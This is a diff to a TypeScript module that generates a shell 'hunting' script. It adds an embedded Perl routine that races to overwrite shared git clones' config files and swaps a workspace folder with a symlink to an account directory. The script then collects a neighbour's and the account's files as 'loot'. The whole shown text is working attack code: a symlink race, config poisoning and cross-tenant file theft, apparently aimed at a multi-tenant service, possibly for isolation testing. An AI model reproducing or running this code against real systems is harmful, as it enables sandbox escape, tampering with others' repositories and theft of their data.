@@ -17,8 +17,35 @@ export interface Hunt {
   readonly ports: readonly number[];
 }
 
-/** How often the job swaps a folder with a link while the service works in that place. */
-const RACE_ROUNDS = 1_000;
+/** In the loot: the race has begun. */
+export const RACING = 'racing';
+/** In the loot: the race may end. */
+export const ENOUGH = 'enough';
+
+/** Swaps the places, about 500 times a second, and pauses in each state: the service has to meet all of them. */
+const RACE = `
+my ($loot, $home) = @ENV{"LOOT", "HOME_OF_RUN"};
+my $place = "$home/workspaces/race/place";
+my $aside = "$home/workspaces/race/aside";
+my $config = "";
+if (open my $file, "<", "$loot/config") { local $/; $config = <$file>; }
+sub pause { select undef, undef, undef, 0.0005 }
+until (-e "$loot/${ENOUGH}") {
+  for my $git (grep { $_ ne "" } @ARGV) {
+    open my $file, ">", "$git/config.$$" or next;
+    print $file $config;
+    close $file;
+    rename "$git/config.$$", "$git/config";
+  }
+  rename $place, $aside;
+  symlink "$home/account", $place;
+  pause;
+  unlink $place;
+  pause;
+  rename $aside, $place;
+  pause;
+}
+`;
 
 export function huntingScript({ loot, home, neighbour, attacker, repository, ports }: Hunt): string {
   return `
@@ -100,18 +127,9 @@ CONFIG
 fi
 
 # Races: configuration of a shared clone, and a folder that is now a folder and now a link.
-round=0
 mkdir -p "$home/workspaces/race/place" 2> /dev/null
-while [ $round -lt ${RACE_ROUNDS} ]; do
-  round=$((round + 1))
-  for git in "$common" "\${alternates%/objects}"; do
-    [ -n "$git" ] && cp "$loot/config" "$git/config.$$" 2> /dev/null && mv "$git/config.$$" "$git/config" 2> /dev/null
-  done
-  mv "$home/workspaces/race/place" "$home/workspaces/race/aside" 2> /dev/null
-  ln -s "$home/account" "$home/workspaces/race/place" 2> /dev/null
-  rm -f "$home/workspaces/race/place" 2> /dev/null
-  mv "$home/workspaces/race/aside" "$home/workspaces/race/place" 2> /dev/null
-done 2> /dev/null
+touch "$loot/${RACING}"
+LOOT="$loot" HOME_OF_RUN="$home" perl -e '${RACE}' "$common" "\${alternates%/objects}"
 cat "$neighbour"/* "$home"/account/*/*/* 2> /dev/null | take
 echo hunted`;
 }
